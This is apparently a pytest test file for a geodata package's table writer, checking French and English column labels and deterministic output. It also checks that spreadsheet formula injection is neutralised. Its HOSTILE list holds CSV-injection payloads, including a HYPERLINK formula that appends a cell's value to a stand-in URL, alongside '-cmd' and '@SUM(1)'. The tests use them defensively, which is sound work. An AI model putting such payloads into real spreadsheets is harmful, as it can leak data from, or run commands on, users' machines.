"""write_tables: labelled, deterministic files, and spreadsheets that hold data, never code."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pyogrio
import pytest

from cdv_geo import Territory
from cdv_geo.core.errors import CdvGeoError
from cdv_geo.output import write_tables
from cdv_geo.output.tables import FORMULA_TRIGGERS, neutralise_text, safe_for_csv
from cdv_geo.pipeline import Metrics, compute_metrics
from tests.pipeline.grid import grid_layers

HOSTILE = ['=HYPERLINK("http://x"&A1,"Cliquez")', "+1", "-cmd", "@SUM(1)"]


@pytest.fixture(scope="module")
def metrics() -> Metrics:
    return compute_metrics(Territory("Testville", **grid_layers()))


def test_write_tables_is_deterministic_and_labelled(metrics: Metrics, tmp_path: Path) -> None:
    a = write_tables(metrics, tmp_path / "a", formats=("csv", "xlsx", "gpkg"))
    b = write_tables(metrics, tmp_path / "b", formats=("csv",))
    csv_a = {p.name: p.read_bytes() for p in a if p.suffix == ".csv"}
    csv_b = {p.name: p.read_bytes() for p in b}
    assert csv_a == csv_b and "coverage.csv" in csv_a
    cov = pd.read_csv(tmp_path / "a" / "coverage.csv")
    assert "Part couverte (0–1)" in cov.columns and "Seuil (min à pied)" in cov.columns
    assert cov.columns[0] == "Quartier (code)"
    kf = pd.read_csv(tmp_path / "a" / "key_figures.csv")
    # the coverage column says which service and walking time it is about
    assert "Habitants à 5 min à pied : Aire de jeux d'eau (0–1)" in kf.columns
    xl = pd.read_excel(tmp_path / "a" / "tables.xlsx", sheet_name=None)
    assert "Chiffres clés par quartier" in xl
    names = {str(n) for n in pyogrio.list_layers(tmp_path / "a" / "derived_layers.gpkg")[:, 0]}
    assert {"service_areas", "residences_access", "quartiers_figures"} <= names
    with pytest.raises(CdvGeoError, match="unknown table format"):
        write_tables(metrics, tmp_path / "c", formats=("pdf",))


def test_workbook_leaves_per_residence_tables_to_csv(metrics: Metrics, tmp_path: Path) -> None:
    written = write_tables(metrics, tmp_path, formats=("xlsx",), lang="en")
    # asked for the workbook only, the per-residence table still gets its CSV file
    assert sorted(p.name for p in written) == ["nearest.csv", "tables.xlsx"]
    near = pd.read_csv(tmp_path / "nearest.csv")
    assert len(near) == len(metrics.tables["nearest"])
    book = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    assert book.sheetnames[0] == "Contents" and "Nearest service per residence" not in book
    assert "Key figures per quartier" in book.sheetnames
    cells = [c.value for row in book["Contents"].iter_rows() for c in row if c.value]
    assert "nearest.csv" in cells and "Key figures per quartier" in cells
    assert "key_figures.csv" not in cells  # (no CSV asked for: none named)
    assert any("derived_layers.gpkg" in str(c) for c in cells)


def test_english_labels(metrics: Metrics, tmp_path: Path) -> None:
    write_tables(metrics, tmp_path, formats=("csv",), lang="en")
    trees = pd.read_csv(tmp_path / "trees.csv")
    assert "Trees planted (count)" in trees.columns and "Name" in trees.columns


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://x"&A1,"Cliquez")', '\'=HYPERLINK("http://x"&A1,"Cliquez")'),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Presles", "Presles"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_text(text: str, expected: str) -> None:
    assert neutralise_text(text) == expected


def test_safe_for_csv_keeps_numbers() -> None:
    t = pd.DataFrame(
        {"name": ["-cmd", "ok"], "change": [-3.5, 2.0], "n": [-1, 4]},
        index=pd.Index(["=1", "all"], name="quartier"),
    )
    safe = safe_for_csv(t)
    assert safe["name"].tolist() == ["'-cmd", "ok"] and safe.index.tolist() == ["'=1", "all"]
    assert safe["change"].tolist() == [-3.5, 2.0] and safe["n"].dtype == t["n"].dtype


def _hostile_territory() -> Territory:
    layers = grid_layers(name_b=HOSTILE[1])
    # (with a control character XLSX cannot hold: dropped there, kept in the CSV)
    layers["quartiers"]["name"] = [HOSTILE[0], HOSTILE[1] + "\x07"]
    layers["facilities"]["name"] = [HOSTILE[2], HOSTILE[3]]
    layers["facilities"]["id"] = [HOSTILE[0], HOSTILE[2]]
    layers["residences"]["id"] = [f"{h}{i}" for i, h in enumerate(HOSTILE)]
    layers["tree_plantings"]["species"] = [HOSTILE[3], HOSTILE[2], HOSTILE[3]]
    layers["desealed_areas"]["site"] = [HOSTILE[0]]
    layers["renewal_sites"]["name"] = [HOSTILE[1], HOSTILE[3]]
    layers["green_spaces"]["name"] = [HOSTILE[0]]
    layers["streets"]["name"] = HOSTILE[2]
    return Territory("Testville", **layers)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Metrics, Path]:
    out = tmp_path_factory.mktemp("hostile")
    m = compute_metrics(_hostile_territory())
    write_tables(m, out, formats=("csv", "xlsx"))
    return m, out


def test_no_formula_in_any_sheet(hostile: tuple[Metrics, Path]) -> None:
    m, out = hostile
    book = openpyxl.load_workbook(out / "tables.xlsx")
    # a contents sheet, then every table but the per-residence one (nearest)
    assert book.sheetnames[0] == "Sommaire"
    assert len(book.sheetnames) == 1 + len(set(m.tables) - {"nearest"})
    texts: set[str] = set()
    negatives = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), cell.coordinate
                    texts.add(cell.value)
                elif isinstance(cell.value, int | float) and cell.value < 0:
                    assert cell.data_type == "n"
                    negatives += 1
    # the hostile names are there, as text (species are written in lower case)
    assert set(HOSTILE[:3]) <= texts and "@sum(1)" in texts
    # the renewal balance of QA: 30 rebuilt - 80 demolished = -50, a number
    assert negatives > 0


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_every_csv_is_neutralised(hostile: tuple[Metrics, Path]) -> None:
    m, out = hostile
    files = sorted(out.glob("*.csv"))
    assert {f.stem for f in files} == set(m.tables)
    for f in files:
        rows = _rows(f)
        cells = [c for row in rows for c in row]
        neutralised = [c for c in cells if c[:1] == "'" and c[1:2] in FORMULA_TRIGGERS]
        assert neutralised, f"no hostile name in {f.name}"
        for c in cells:
            if c.startswith(FORMULA_TRIGGERS):
                # only numbers may start with - or + (a negative number stays a number)
                float(c)
    balance = pd.read_csv(out / "renewal_balance.csv", index_col=0)
    net = [c for c in balance.columns if "net_change" in c or "Solde" in c]
    column = balance[net[0]] if net else balance.select_dtypes("number").min(axis=1)
    assert pd.api.types.is_numeric_dtype(column) and (column < 0).any()


# --- one language per header: every column of every table of the demo (issue 22) ------------

#: English words a French header must not have (French homographs such as "type", "site",
#: "service", "incidents", "zone", "source" are left out).
ENGLISH = {
    "share", "the", "of", "and", "residents", "area", "count", "walking", "time",
    "facility", "nearest", "before", "after", "rate", "gap", "value", "per", "with", "trees",
    "dwellings", "rebuilt", "change", "year", "unknown", "built", "households", "species",
    "family", "genus", "planted", "children", "covered", "threshold", "weight", "method",
    "reason", "name", "level", "indicator", "impervious", "canopy", "heat", "mean", "summers",
    "opened", "rank", "candidate", "status", "operation", "improved", "worse", "off", "green",
    "meets", "done", "planned", "town", "municipality",
}  # fmt: skip
#: French words an English header must not have.
FRENCH = {
    "part", "nombre", "logements", "habitants", "surface", "à", "de", "des", "du", "la", "le",
    "les", "avant", "après", "équipement", "arbres", "ménages", "année", "écart", "valeur",
    "commune", "seuil", "motif", "nom", "et", "ou", "pour",
}  # fmt: skip


@pytest.fixture(scope="module")
def demo_metrics() -> Metrics:
    import warnings

    from cdv_geo import datasets

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the demo's sources disagree on purpose
        return compute_metrics(datasets.soissons())


def _headers(metrics: Metrics, lang: str) -> list[tuple[str, str, str]]:
    from cdv_geo.output.tables import labelled_table

    out = []
    for name, table in sorted(metrics.tables.items()):
        shown = labelled_table(table, lang=lang, town="Soissons")
        raw = [*map(str, table.columns)]
        heads = [*map(str, shown.columns)]
        if not isinstance(table.index, pd.RangeIndex):
            raw += [str(n or "id") for n in table.index.names]
            heads += [str(n) for n in shown.index.names]
        out += [(name, r, h) for r, h in zip(raw, heads, strict=True)]
    return out


@pytest.mark.parametrize(("lang", "foreign"), [("fr", ENGLISH), ("en", FRENCH)])
def test_every_header_of_the_demo_is_in_one_language(
    demo_metrics: Metrics, lang: str, foreign: set[str]
) -> None:
    import re

    headers = _headers(demo_metrics, lang)
    assert len(headers) > 150  # every table of the demo, every column
    wrong = []
    for table, column, head in headers:
        words = set(re.findall(r"[^\W\d_]+(?:-[^\W\d_]+)*", head.lower()))
        if re.search(r"\w_\w", head) or words & foreign:  # a snake_case name, a foreign word
            wrong.append((table, column, head))
    assert not wrong


def test_demo_headers_differ_by_language(demo_metrics: Metrics) -> None:
    fr = {c: h for _, c, h in _headers(demo_metrics, "fr")}
    en = {c: h for _, c, h in _headers(demo_metrics, "en")}
    assert fr["impervious_m2"] == "Surface imperméabilisée (m²)"
    assert en["impervious_before_share"] == "Impervious share before (0–1)"
    assert fr["population_source"] == "Source de la population"
    same = {c for c in fr if fr[c] == en[c]}
    assert same <= {"code", "conclusion", "quartier", "source", "zone"}, same


def test_comparison_rows_are_named_in_the_file_language(metrics: Metrics, tmp_path: Path) -> None:
    fr = write_tables(metrics, tmp_path / "fr", formats=("csv",), town="Testville")
    en = write_tables(metrics, tmp_path / "en", formats=("csv",), lang="en", town="Testville")
    kf_fr = pd.read_csv(next(p for p in fr if p.name == "key_figures.csv"), index_col=0)
    kf_en = pd.read_csv(next(p for p in en if p.name == "key_figures.csv"), index_col=0)
    assert kf_fr.at["hors_qpv", "Nom"] == "Testville hors QPV"
    assert kf_en.at["hors_qpv", "Name"] == "Testville outside priority neighbourhoods"
    assert kf_en.at["qpv", "Name"] == "All priority neighbourhoods"
    # the quartier rows keep their own names
    assert kf_en.at["QA", "Name"] == kf_fr.at["QA", "Nom"]
